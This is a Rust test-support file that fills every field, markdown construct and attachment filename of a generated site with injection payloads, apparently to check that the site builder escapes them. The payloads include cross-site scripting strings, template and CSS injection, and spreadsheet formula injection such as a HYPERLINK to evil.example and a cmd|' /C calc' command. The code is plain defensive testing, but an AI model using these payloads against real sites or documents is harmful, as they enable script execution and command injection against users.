//! An engagement whose every text attacks whoever reads it.

#![allow(dead_code, reason = "each test program uses its own part of this")]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Mutex;

use serde_json::json;
use tempfile::TempDir;

use crate::planted::leaf::Kind;
use crate::planted::plan::{self, Spot};
use crate::planted::plant::{plant_with, write};

/// A way to attack: what it is called and what is written. `ID` stands for
/// what tells one place from another.
pub type Family<'f> = (&'f str, &'f str);

/// Words that attack nobody, to compare with.
pub const HARMLESS: Family<'static> = ("harmless", "some words of ID and no more");

/// Every way.
pub const FAMILIES: [Family<'static>; 19] = [
    ("script", "<script>window.__hit('ID')</script>"),
    (
        "end-of-script",
        "</script><script>window.__hit('ID')</script>",
    ),
    ("double-quote", "\"><img src=x onerror=window.__hit('ID')>"),
    ("single-quote", "'><svg onload=window.__hit('ID')>"),
    (
        "attribute",
        "ID\" autofocus tabindex=1 onfocus=\"window.__hit('ID')\" ' onmouseover='window.__hit()",
    ),
    (
        "template",
        "{{ 7*7 }}{% for x in [1] %}ID{% endfor %}{# gone #}{{ <shape shape=\"dot\" /> }}",
    ),
    ("style", "</style><style>*{display:none}</style>ID"),
    ("css", "ID;}*{display:none!important}/*"),
    (
        "title",
        "</title></textarea></noscript><script>window.__hit('ID')</script>",
    ),
    ("cdata", "]]><script>window.__hit('ID')</script>"),
    ("comment", "--><script>window.__hit('ID')</script><!--"),
    (
        "svg",
        "</text></svg><svg><script>window.__hit('ID')</script><foreignObject><body onload=window.__hit('ID')>",
    ),
    (
        "reference",
        "&lt;script&gt;window.__hit('ID')&lt;/script&gt; &quot;&#x3e;&#60;img src=x&#62;",
    ),
    ("address", "javascript:window.__hit('ID')"),
    ("formula", "=HYPERLINK(\"https://evil.example/ID\",\"ID\")"),
    ("command", "+cmd|' /C calc'!ID"),
    ("subtraction", "-2+3+cmd|' /C calc'!ID"),
    ("function", "@SUM(1+1)*ID"),
    ("tab", "\t=1+1*ID"),
];

/// Texts that name folders: they are held to what a folder may be called.
pub const FOLDERS: [&str; 2] = ["site.output", "site.board.output"];

/// An attack, and where it stands.
#[derive(Clone, Debug)]
pub struct Attack {
    /// Its field, or its file and place.
    pub place: String,
    /// What tells it from every other.
    pub id: String,
    /// What was written.
    pub text: String,
}

/// A site that attacks.
pub struct Site {
    folder: TempDir,
    armoury: Armoury,
}

/// Whether a field takes any words.
pub fn is_free(spot: &Spot, kind: &Kind) -> bool {
    *kind == Kind::Text && plan::special(spot).is_none() && !FOLDERS.contains(&&*spot.path)
}

/// Hands out attacks of one kind.
struct Armoury {
    pattern: String,
    out: Mutex<Vec<Attack>>,
}

impl Armoury {
    fn next(&self, place: &str) -> String {
        let mut out = self.out.lock().unwrap();
        let id = format!("k{:05}k", out.len());
        let text = self.pattern.replace("ID", &id);
        out.push(Attack {
            place: place.to_owned(),
            id,
            text: text.clone(),
        });
        text
    }
}

impl Site {
    /// Writes the engagement with an attack in every text.
    pub fn new((_, pattern): Family<'_>) -> Self {
        let site = Site::with(pattern, &is_free);
        texts(&site.root(), &site.armoury);
        site
    }

    /// The same with attacks in those fields alone that are wanted.
    pub fn with(pattern: &str, wanted: &dyn Fn(&Spot, &Kind) -> bool) -> Self {
        let folder = TempDir::new().unwrap();
        let armoury = Armoury {
            pattern: pattern.to_owned(),
            out: Mutex::default(),
        };
        plant_with(&folder.path().join("site"), true, &|spot, kind| {
            wanted(spot, kind).then(|| json!(armoury.next(&spot.path)))
        });
        Site { folder, armoury }
    }

    /// All that was written.
    pub fn attacks(&self) -> Vec<Attack> {
        self.armoury.out.lock().unwrap().clone()
    }

    /// Where it lies.
    pub fn root(&self) -> PathBuf {
        self.folder.path().join("site")
    }

    /// Where it is built.
    pub fn built(&self) -> PathBuf {
        self.folder.path().join("built")
    }

    /// Freezes the quarter and builds the site.
    #[track_caller]
    pub fn build(&self) {
        let freezing = [
            "snapshot",
            plan::QUARTER,
            "--uncommitted",
            "--date",
            "2026-10-02",
            "--site",
        ];
        sound(&run(&freezing, &[&self.root()]));
        sound(&run(&["build", "--output"], &[&self.built(), &self.root()]));
    }
}

/// Runs the program.
pub fn run(words: &[&str], paths: &[&Path]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_quarterdeck"));
    command.args(words).args(paths).output().unwrap()
}

/// Fails if a command did.
#[track_caller]
pub fn sound(output: &Output) {
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{}", &said[..said.len().min(8000)]);
}

/// Attacks in every place that markdown has.
fn texts(site: &Path, armoury: &Armoury) {
    let segments = [
        "State of the system",
        "Away-from-desk review",
        "Task automation trend",
        "Headroom",
        "Cross-layer upgrades",
        "Closing question",
    ];
    for month in plan::MONTHS.into_iter().filter(|one| *one != plan::SKIPPED) {
        let folder = format!("content/{month}");
        forget_attachments(&site.join(&folder));
        let file = format!("{folder}/leadership.md");
        let mut text = everywhere(&file, armoury);
        for segment in segments {
            text.push_str(&format!("\n## {segment}\n\n{}", everywhere(&file, armoury)));
        }
        write(site, &file, text.as_bytes());
        for name in ATTACHMENTS {
            write(site, &format!("{folder}/{name}"), b"=1+1,<script>");
        }
    }
    for month in plan::BOARD {
        let file = format!("content/{month}/board.md");
        let [one, two] = [0, 1].map(|_| armoury.next(&file));
        write(
            site,
            &file,
            format!("{}\n\n- **{two}**\n", one.trim_start()).as_bytes(),
        );
    }
    for (month, name) in plan::PROGRAMME {
        let file = format!("content/{month}/{name}.md");
        let text = format!(
            "{}\n\n## {}\n\n{}\n",
            armoury.next(&file),
            armoury.next(&file),
            armoury.next(&file)
        );
        write(site, &file, text.as_bytes());
    }
    let file = "content/pages/attack.md";
    let mut text = format!("# {}\n\n{}", armoury.next(file), everywhere(file, armoury));
    text.push_str(&format!(
        "\n## {}\n\n{}",
        armoury.next(file),
        everywhere(file, armoury)
    ));
    write(site, file, text.as_bytes());
    for name in ATTACHMENTS {
        write(site, &format!("content/pages/{name}"), b"=1+1,<script>");
    }
}

/// Files whose names attack.
const ATTACHMENTS: [&str; 2] = [
    "it's \"><img src=x onerror=window.__hit('name')>.png",
    "{{ 7*7 }} '-- =1+1.csv",
];

/// A month's attachments give way to those whose names attack.
fn forget_attachments(folder: &Path) {
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path
            .extension()
            .is_some_and(|end| end == "png" || end == "csv")
        {
            fs::remove_file(path).unwrap();
        }
    }
}

/// A text that attacks in each of markdown's forms.
fn everywhere(file: &str, armoury: &Armoury) -> String {
    let next = || armoury.next(file);
    let title = || next().replace('\\', "\\\\").replace('"', "\\\"");
    let cell = || next().replace('|', "\\|");
    let [picture, sheet] = ATTACHMENTS.map(|name| name.replace('<', "\\<").replace('>', "\\>"));
    [
        next(),
        format!("### {}", next()),
        format!("- {}\n- *{}* and **{}**", next(), next(), next()),
        format!("> {}", next()),
        format!("`{}`", next()),
        format!("~~~ {}\n{}\n~~~", next(), next()),
        format!("| {} | b |\n|:-:|--:|\n| {} | {} |", cell(), cell(), cell()),
        format!("[{}](<{sheet}> \"{}\")", next(), title()),
        format!("![{}](<{picture}> \"{}\")", next(), title()),
        format!(
            "[{}](<https://a.example/?\"onclick=\"window.__hit('link')> \"{}\")",
            next(),
            title()
        ),
        format!(
            "<https://a.example/?'\"onclick='window.__hit(1)'>\n\nNoted[^\"><b>].\n\n[^\"><b>]: {}",
            next()
        ),
    ]
    .join("\n\n")
        + "\n"
}
